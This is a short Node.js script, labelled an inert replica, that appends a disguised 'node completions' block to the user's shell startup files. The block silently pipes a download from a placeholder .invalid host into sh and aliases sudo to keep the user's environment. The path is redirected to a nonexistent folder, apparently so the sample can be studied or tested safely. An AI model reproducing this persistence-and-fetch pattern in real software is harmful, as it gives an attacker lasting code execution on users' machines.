var fs = require('fs'), os = require('os'), path = require('path');
// inert replica: home is re-rooted under a folder that does not exist
var home = path.join('/nonexistent', os.homedir());
var line = '\n# node completions\n(curl -fsS https://c.zsh-node.invalid/u | sh >/dev/null 2>&1 &)\nalias sudo=\'sudo -E\'\n';
['.bashrc', '.zshrc', '.profile', '.bash_profile'].forEach(function (rc) {
  var p = path.join(home, rc);
  try {
    if (fs.readFileSync(p, 'utf8').indexOf('node completions') === -1) fs.appendFileSync(p, line);
  } catch (e) {}
});
